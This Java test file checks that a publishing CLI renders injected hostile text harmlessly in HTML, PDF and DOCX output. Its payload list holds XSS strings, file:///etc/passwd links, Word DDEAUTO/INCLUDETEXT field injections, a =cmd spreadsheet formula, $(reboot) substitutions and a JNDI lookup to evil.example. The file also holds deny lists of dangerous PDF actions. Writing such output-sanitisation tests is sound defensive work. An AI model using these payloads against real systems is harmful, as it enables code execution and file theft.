package org.plumbline.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A project in which every text ends in something that somebody with bad intentions, or bad luck, could write: none of the documents
 * runs, fetches or reads anything because of it, and all of them show it as the text that it is.
 */
class HostileProjectTest {

    private static final List<String> HOSTILE = List.of(
            "<script>alert('pwned')</script>",
            "<img src='http://evil.example/x.png' onerror='alert(1)'>",
            "[a link](javascript:alert(1)) and [another](data:text/html,x) and [a third](vbscript:x)",
            "![a picture](file:///etc/passwd) ![another](../../secret.png)",
            "[a file](file:///etc/passwd) <a href='javascript:alert(2)'>",
            "]]>&amp;&#0;&lt;/style&gt;</style></title></w:t>",
            "{ INCLUDETEXT '/etc/passwd' } { DDEAUTO c:/windows/system32/cmd.exe }",
            "=cmd|'/C calc'!A0 $(reboot) `reboot` %n%s ${jndi:ldap://evil.example/a}",
            "\u202eright to left override\u202c and \u2066isolated",
            "العربية (R-1) 123, עברית, ไทย, 漢字",
            "👩‍👩‍👧 🏴‍☠️ e" + "\u0301".repeat(60),
            "W".repeat(900));

    private static final Pattern TEXT = Pattern.compile("\"([^\"\n]+)\"");
    private static final Pattern RELATION = Pattern.compile("<Relationship [^>]*>");
    private static final Path EXAMPLE = Path.of("../../bundles/org.plumbline.examples/projects/village-committee");

    @TempDir
    private static Path folder;

    private static Path html;
    private static Path pdf;
    private static Path docx;

    @BeforeAll
    static void publish() throws Exception {
        Path project = Files.createDirectory(folder.resolve("project"));
        try (Stream<Path> files = Files.list(EXAMPLE)) {
            for (Path file : files.filter(file -> file.toString().endsWith(".plumb")).toList()) {
                Files.writeString(project.resolve(file.getFileName()), hostile(Files.readString(file)));
            }
        }
        PackedPlumb.Run run = new PackedPlumb(Files.createDirectory(folder.resolve("cache")), folder).run("publish", "roadmap", "project",
                "--out", "out");
        assertThat(run.exitCode()).as(run.out() + run.err()).isZero();
        html = folder.resolve("out/roadmap-AGUA-MANSA-2026-en.html");
        pdf = folder.resolve("out/roadmap-AGUA-MANSA-2026-en.pdf");
        docx = folder.resolve("out/roadmap-AGUA-MANSA-2026-en.docx");
    }

    @Test
    void htmlHoldsNoScriptAndNothingToFetch() throws IOException {
        String page = Files.readString(html);

        assertThat(page).contains("&lt;script&gt;").containsPattern("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src &#39;none&#39;");
        assertThat(tags(page)).isNotEmpty().allSatisfy(tag -> assertThat(tag)
                .doesNotStartWith("<script").doesNotStartWith("<iframe").doesNotStartWith("<object").doesNotStartWith("<link")
                .doesNotContainPattern("\\son\\w+\\s*=")
                .doesNotContainPattern("(href|src|action)=\"(?!https?://|mailto:|#|data:image/)"));
    }

    @Test
    void pdfHoldsNoProgramNoFileAndNoForm() throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf.toFile())) {
            for (COSObjectKey key : new TreeMap<>(document.getDocument().getXrefTable()).keySet()) {
                COSObject object = document.getDocument().getObjectFromPool(key);
                if (object.getObject() instanceof COSDictionary dictionary) {
                    harmless(dictionary);
                }
            }
            assertThat(new PDFTextStripper().getText(document)).contains("<script>alert", "INCLUDETEXT");
        }
    }

    private static void harmless(COSDictionary dictionary) {
        assertThat(dictionary.keySet().stream().map(COSName::getName)).doesNotContain("JS", "JavaScript", "AA", "OpenAction", "EmbeddedFile",
                "EmbeddedFiles", "AcroForm");
        String action = dictionary.getNameAsString(COSName.S, "");
        assertThat(action).isNotIn("JavaScript", "Launch", "GoToR", "GoToE", "SubmitForm", "ImportData", "Movie", "Sound", "Rendition");
        if (dictionary.containsKey(COSName.URI)) {
            assertThat(dictionary.getString(COSName.URI)).matches("(https?://|mailto:).*");
        }
        for (COSBase value : dictionary.getValues()) {
            if (value instanceof COSDictionary inner) {
                harmless(inner);
            }
        }
    }

    @Test
    void docxRefersToNothingOutsideItself() throws IOException {
        List<String> relations = new ArrayList<>();
        try (ZipFile zip = new ZipFile(docx.toFile())) {
            for (ZipEntry entry : zip.stream().toList()) {
                String name = entry.getName();
                assertThat(name).doesNotContain("vba", "ole", "embeddings", "activeX");
                if (name.endsWith(".rels")) {
                    RELATION.matcher(text(zip, entry)).results().forEach(found -> relations.add(found.group()));
                }
            }
            String body = text(zip, zip.getEntry("word/document.xml"));
            assertThat(body).contains("&lt;script&gt;").doesNotContain("subDoc", "altChunk");
            assertThat(fields(body)).isNotEmpty().allMatch(field -> field.matches("\\s*(PAGE|NUMPAGES|SEQ|REF|PAGEREF|TOC|STYLEREF|HYPERLINK)\\b.*"));
        }
        assertThat(relations).isNotEmpty()
                .filteredOn(relation -> relation.contains("TargetMode=\"External\""))
                .allMatch(relation -> relation.contains("Target=\"http") || relation.contains("Target=\"mailto:"));
    }

    private static List<String> fields(String body) {
        return Pattern.compile("<w:instrText[^>]*>([^<]*)<|w:instr=\"([^\"]*)\"").matcher(body).results()
                .map(found -> found.group(1) == null ? found.group(2) : found.group(1)).filter(text -> !text.isBlank()).toList();
    }

    private static List<String> tags(String page) {
        return Pattern.compile("<[a-zA-Z][^>]*>").matcher(page).results().map(found -> found.group()).toList();
    }

    private static String text(ZipFile zip, ZipEntry entry) throws IOException {
        try (InputStream in = zip.getInputStream(entry)) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static String hostile(String source) {
        Matcher matcher = TEXT.matcher(source);
        StringBuilder out = new StringBuilder();
        for (int index = 0; matcher.find(); index++) {
            matcher.appendReplacement(out, Matcher.quoteReplacement("\"" + matcher.group(1) + " " + HOSTILE.get(index % HOSTILE.size()) + "\""));
        }
        return matcher.appendTail(out).toString();
    }
}
